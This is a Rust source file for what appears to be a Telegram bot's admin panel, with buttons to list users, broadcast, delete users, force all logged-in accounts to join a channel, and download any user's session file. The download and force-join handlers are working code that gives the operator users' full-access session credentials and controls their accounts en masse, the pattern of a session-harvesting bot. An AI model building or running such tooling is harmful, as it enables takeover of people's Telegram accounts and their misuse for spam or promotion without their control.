//! Admin panel: inline menu plus a one-message conversation per action.

use std::sync::Arc;

use teloxide::{prelude::*, types::ParseMode};
use tracing::{info, warn};

use fwd_core::{
    domain::{ChatId, MessageId, MessageRef, UserId},
    errors::Error,
    formatting::{code, escape_html, user_list_html, user_list_text},
    messaging::types::{InlineButton, InlineKeyboard},
};

use crate::{inline_markup, router::AppState};

use super::{error_reply, login::logout_text, reply};

/// What the admin's next message will be used for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum AdminAction {
    Broadcast,
    DeleteUser,
    ForceJoin,
    DownloadSession,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum AdminButton {
    ListUsers,
    Start(AdminAction),
    Cancel,
}

impl AdminButton {
    fn data(self) -> &'static str {
        match self {
            AdminButton::ListUsers => "list_users",
            AdminButton::Start(AdminAction::Broadcast) => "broadcast",
            AdminButton::Start(AdminAction::DeleteUser) => "delete_user",
            AdminButton::Start(AdminAction::ForceJoin) => "forcejoin",
            AdminButton::Start(AdminAction::DownloadSession) => "download_session",
            AdminButton::Cancel => "cancel_admin_action",
        }
    }

    fn parse(data: &str) -> Option<Self> {
        Some(match data {
            "list_users" => AdminButton::ListUsers,
            "broadcast" => AdminButton::Start(AdminAction::Broadcast),
            "delete_user" => AdminButton::Start(AdminAction::DeleteUser),
            "forcejoin" => AdminButton::Start(AdminAction::ForceJoin),
            "download_session" => AdminButton::Start(AdminAction::DownloadSession),
            "cancel_admin_action" => AdminButton::Cancel,
            _ => return None,
        })
    }

    fn button(self, label: &str) -> InlineButton {
        InlineButton::new(label, self.data())
    }
}

fn panel_keyboard() -> InlineKeyboard {
    InlineKeyboard::new(vec![
        vec![
            AdminButton::ListUsers.button("👥 List Users"),
            AdminButton::Start(AdminAction::Broadcast).button("📢 Broadcast"),
        ],
        vec![
            AdminButton::Start(AdminAction::DeleteUser).button("🗑️ Delete User"),
            AdminButton::Start(AdminAction::ForceJoin).button("🚀 Force Join"),
        ],
        vec![AdminButton::Start(AdminAction::DownloadSession).button("📥 Download Session")],
    ])
}

fn prompt_for(action: AdminAction) -> &'static str {
    match action {
        AdminAction::Broadcast => "📢 <b>Broadcast Mode</b>\n\nPlease send the message you want to broadcast to all users.",
        AdminAction::DeleteUser => "🗑️ <b>Delete User Mode</b>\n\nPlease send the phone number or user ID of the user you want to delete.",
        AdminAction::ForceJoin => "🚀 <b>Force Join Mode</b>\n\nPlease send the username of the channel/group/bot for all accounts to join (e.g., @telegram).",
        AdminAction::DownloadSession => "📥 <b>Download Session</b>\n\nPlease send the phone number or user ID of the account you want to download.",
    }
}

pub(crate) async fn show_panel(state: &AppState, chat_id: ChatId) {
    if let Err(e) = state
        .messenger
        .send_inline_keyboard(
            chat_id,
            "👑 <b>Admin Panel</b>\n\nSelect an option from the menu below:",
            panel_keyboard(),
        )
        .await
    {
        warn!(error = %e, "admin panel failed");
    }
}

async fn edit_with_keyboard(bot: &Bot, msg: MessageRef, html: &str, keyboard: &InlineKeyboard) {
    let res = bot
        .edit_message_text(
            teloxide::types::ChatId(msg.chat_id.0),
            teloxide::types::MessageId(msg.message_id.0),
            html.to_string(),
        )
        .parse_mode(ParseMode::Html)
        .reply_markup(inline_markup(keyboard))
        .await;
    if let Err(e) = res {
        warn!(error = %e, "admin panel edit failed");
    }
}

pub(crate) async fn handle_admin_button(
    bot: Bot,
    state: &AppState,
    cb_id: &str,
    admin: UserId,
    origin: MessageRef,
    data: &str,
) -> ResponseResult<()> {
    let Some(button) = AdminButton::parse(data) else {
        let _ = state.messenger.answer_callback_query(cb_id, None, false).await;
        return Ok(());
    };

    match button {
        AdminButton::ListUsers => {
            let _ = state
                .messenger
                .answer_callback_query(cb_id, Some("Fetching user list..."), false)
                .await;
            send_user_list(state, origin.chat_id, admin).await;
        }
        AdminButton::Start(action) => {
            let _ = state.messenger.answer_callback_query(cb_id, None, false).await;
            state.conversations.await_admin_input(admin, action).await;
            let cancel = InlineKeyboard::single(AdminButton::Cancel.button("❌ Cancel"));
            edit_with_keyboard(&bot, origin, prompt_for(action), &cancel).await;
        }
        AdminButton::Cancel => {
            let _ = state.messenger.answer_callback_query(cb_id, None, false).await;
            state.conversations.cancel_admin_action(admin).await;
            edit_with_keyboard(
                &bot,
                origin,
                "👑 <b>Admin Panel</b>\n\nAction cancelled. Select an option:",
                &panel_keyboard(),
            )
            .await;
        }
    }
    Ok(())
}

async fn send_user_list(state: &AppState, chat_id: ChatId, admin: UserId) {
    let users = state.ctx.admin.list_users().await;
    if users.is_empty() {
        reply(state, chat_id, "No users have logged in yet.").await;
        return;
    }

    let html = user_list_html(&users);
    if html.len() <= state.cfg().telegram_message_limit {
        reply(state, chat_id, &html).await;
        return;
    }

    reply(state, chat_id, "The user list is too long, sending as a file.").await;
    let path = std::env::temp_dir().join(format!("user_list_{}.txt", admin.0));
    if let Err(e) = tokio::fs::write(&path, user_list_text(&users)).await {
        warn!(error = %e, "could not write user list");
        return;
    }
    if let Err(e) = state
        .messenger
        .send_document(chat_id, &path, "User List")
        .await
    {
        warn!(error = %e, "user list upload failed");
    }
    let _ = tokio::fs::remove_file(&path).await;
}

pub(crate) async fn handle_admin_input(
    msg: Message,
    state: Arc<AppState>,
    action: AdminAction,
) -> ResponseResult<()> {
    let chat_id = ChatId(msg.chat.id.0);
    let text = msg.text().map(str::trim).unwrap_or_default().to_string();
    info!(?action, "admin action");

    match action {
        AdminAction::Broadcast => {
            let source = MessageRef {
                chat_id,
                message_id: MessageId(msg.id.0),
            };
            broadcast(&state, chat_id, source).await;
        }
        _ if text.is_empty() => {
            reply(&state, chat_id, "❌ Please send a text reply.").await;
        }
        AdminAction::DeleteUser => {
            let reply_text = match state.ctx.admin.delete_user(&text).await {
                Ok((account, result)) => logout_text(&account, result),
                Err(Error::NotFound(_)) => not_found(&text),
                Err(e) => format!(
                    "❌ An error occurred during the logout process: {}",
                    escape_html(&e.to_string())
                ),
            };
            reply(&state, chat_id, &reply_text).await;
        }
        AdminAction::ForceJoin => force_join(&state, chat_id, &text).await,
        AdminAction::DownloadSession => download_session(&state, chat_id, &text).await,
    }
    Ok(())
}

fn not_found(identifier: &str) -> String {
    format!(
        "❌ Could not find a user with the identifier: {}.",
        code(identifier)
    )
}

async fn broadcast(state: &AppState, chat_id: ChatId, source: MessageRef) {
    let status = match state
        .messenger
        .send_html(chat_id, "📢 Broadcasting your message to all users...")
        .await
    {
        Ok(m) => m,
        Err(e) => {
            warn!(error = %e, "broadcast status failed");
            return;
        }
    };

    let report = state.ctx.admin.broadcast(source).await;
    let text = if report.succeeded + report.failed == 0 {
        "No users to broadcast to.".to_string()
    } else {
        format!(
            "✅ <b>Broadcast Complete</b>\nSent: {} | Failed: {}",
            report.succeeded, report.failed
        )
    };
    let _ = state.messenger.edit_html(status, &text).await;
}

async fn force_join(state: &AppState, chat_id: ChatId, target: &str) {
    const NO_CLIENTS: &str = "No active user clients to perform the action.";

    let live = state.ctx.registry.live().await.len();
    if live == 0 {
        reply(state, chat_id, NO_CLIENTS).await;
        return;
    }
    let status = match state
        .messenger
        .send_html(
            chat_id,
            &format!(
                "🚀 Instructing {live} active users to interact with {}...",
                code(target)
            ),
        )
        .await
    {
        Ok(m) => m,
        Err(e) => {
            warn!(error = %e, "force join status failed");
            return;
        }
    };

    let text = match state.ctx.admin.force_join(target).await {
        Ok(Some(report)) => format!(
            "✅ <b>Force Action Complete</b>\nTarget: {}\nSuccess: {} | Failed: {}",
            code(target),
            report.succeeded,
            report.failed
        ),
        Ok(None) => NO_CLIENTS.to_string(),
        Err(e) => error_reply(&e),
    };
    let _ = state.messenger.edit_html(status, &text).await;
}

async fn download_session(state: &AppState, chat_id: ChatId, identifier: &str) {
    let Some(account) = state.ctx.admin.find_account(identifier).await else {
        reply(state, chat_id, &not_found(identifier)).await;
        return;
    };

    match state.ctx.admin.session_file(account.as_str()).await {
        Ok((account, path)) => {
            let notice = format!(
                "📥 Found session for {}. Uploading file...",
                code(account.as_str())
            );
            reply(state, chat_id, &notice).await;
            let caption = format!(
                "Here is the session file for user {}.",
                code(account.as_str())
            );
            if let Err(e) = state.messenger.send_document(chat_id, &path, &caption).await {
                reply(state, chat_id, &error_reply(&e)).await;
            }
        }
        Err(_) => {
            let text = format!(
                "❌ Session file for {} does not exist. The user may have logged out.",
                code(account.as_str())
            );
            reply(state, chat_id, &text).await;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn admin_buttons_round_trip() {
        for b in [
            AdminButton::ListUsers,
            AdminButton::Start(AdminAction::Broadcast),
            AdminButton::Start(AdminAction::DeleteUser),
            AdminButton::Start(AdminAction::ForceJoin),
            AdminButton::Start(AdminAction::DownloadSession),
            AdminButton::Cancel,
        ] {
            assert_eq!(AdminButton::parse(b.data()), Some(b));
        }
        assert_eq!(AdminButton::parse("rem_so_1"), None);
    }

    #[test]
    fn panel_offers_every_action() {
        let kb = panel_keyboard();
        let data: Vec<&str> = kb
            .rows
            .iter()
            .flatten()
            .map(|b| b.callback_data.as_str())
            .collect();
        assert_eq!(
            data,
            vec![
                "list_users",
                "broadcast",
                "delete_user",
                "forcejoin",
                "download_session"
            ]
        );
    }
}
